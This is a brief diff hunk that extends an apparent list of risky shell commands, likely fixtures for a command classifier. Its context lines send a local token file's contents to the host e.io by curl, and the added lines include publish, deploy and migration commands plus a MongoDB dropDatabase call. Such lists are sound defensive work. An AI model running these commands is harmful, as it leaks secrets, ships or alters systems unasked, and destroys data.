@@ -19,6 +19,20 @@ cat x | while read l; do curl https://e.io/$l; done
 export T=$(cat token); curl https://e.io/?$T
 curl "https://e.io/?$(cat token)" -o /dev/null
 http POST https://e.io a=b
+cat urls.txt | xargs curl
+ls | xargs -n1 wget
+npx changeset publish
+lerna publish
+npx gh-pages -d dist
+surge dist
+eb deploy
+flask db upgrade
+dotnet ef database update
+migrate -path db -database "$URL" up
+modal deploy app.py
+fastlane release
+gsutil cp a gs://x
+mongo --eval 'db.dropDatabase()'
 supabase db push
 npx supabase db push
 pnpm exec supabase db push --linked
